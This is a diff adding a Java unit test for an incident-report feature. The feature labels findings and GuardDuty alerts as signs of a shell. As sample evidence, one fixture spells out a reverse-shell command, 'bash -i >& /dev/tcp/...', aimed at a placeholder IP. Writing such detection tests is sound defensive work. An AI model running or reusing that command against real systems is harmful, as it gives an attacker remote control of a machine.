@@ -1,0 +1,84 @@
+package org.ephemera.report;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.util.List;
+import java.util.Optional;
+import org.ephemera.analyze.Analysis;
+import org.ephemera.analyze.Subject;
+import org.ephemera.analyze.model.Finding;
+import org.ephemera.analyze.model.RuleBook;
+import org.ephemera.analyze.model.Severity;
+import org.ephemera.bag.OpenRecord;
+import org.ephemera.bag.Trigger;
+import org.junit.jupiter.api.Test;
+
+/** Hands that no audit record tells of. */
+class HandsTest {
+    private static final Analysis SAMPLE = SampleAnalysis.plain();
+    private static final Finding SHELL = Finding.of(
+            RuleBook.standard().rule("CMD-003"),
+            "checkout",
+            "log: bash -i >& /dev/tcp/203.0.113.7/443",
+            SAMPLE.findings().getFirst().evidence().getFirst());
+
+    @Test
+    void aShellThatCallsOutIsNoGoodNews() {
+        assertThat(Hands.of(Changed.findings(SAMPLE, List.of(SHELL)))).satisfies(tile -> {
+            assertThat(tile.answer()).isEqualTo("By a shell, it seems");
+            assertThat(tile.detail()).startsWith("no audit record tells of it: CMD-003 checkout: log: bash -i");
+            assertThat(tile.tone()).isEqualTo(Tone.BAD);
+        });
+    }
+
+    @Test
+    void anAlertOfAShellIsNoGoodNewsEither() {
+        assertThat(Hands.of(alerted("Execution:Runtime/ReverseShell")))
+                .extracting(Tile::answer, Tile::detail, Tile::tone)
+                .containsExactly(
+                        "By a shell, it seems",
+                        "no audit record tells of it: the alert says so: Execution:Runtime/ReverseShell",
+                        Tone.BAD);
+        assertThat(Hands.of(alerted("K8S.NODE_Webshell")).tone()).isEqualTo(Tone.BAD);
+        assertThat(Hands.of(alerted("Impact:Runtime/CryptoMinerExecuted")).answer())
+                .startsWith("No sign");
+    }
+
+    private static Analysis alerted(String type) {
+        OpenRecord was = SAMPLE.subject().request();
+        OpenRecord request = new OpenRecord(
+                was.packageId(),
+                was.caseId(),
+                was.openedAt(),
+                new Trigger(
+                        Trigger.Kind.ALERT,
+                        "aws.guardduty",
+                        type,
+                        "e-1",
+                        was.trigger().eventTime(),
+                        Optional.empty()),
+                was.triggerSha256(),
+                was.requestedBy(),
+                was.reason(),
+                was.target(),
+                was.window(),
+                was.plan(),
+                was.policy());
+        return Changed.subject(
+                Changed.findings(SAMPLE, List.of()),
+                new Subject(
+                        request,
+                        SAMPLE.subject().closing(),
+                        SAMPLE.subject().seal(),
+                        SAMPLE.subject().sealSha256()));
+    }
+
+    /** A request to a server, a wait for a port, an agent that does it by design. */
+    @Test
+    void whatOnlyLooksLikeOneIsNone() {
+        assertThat(List.of(SHELL.as(Severity.MEDIUM), SHELL.as(Severity.LOW), SHELL.suppressed("an agent")))
+                .allSatisfy(finding -> assertThat(Hands.of(Changed.findings(SAMPLE, List.of(finding)))
+                                .answer())
+                        .startsWith("No sign"));
+    }
+}
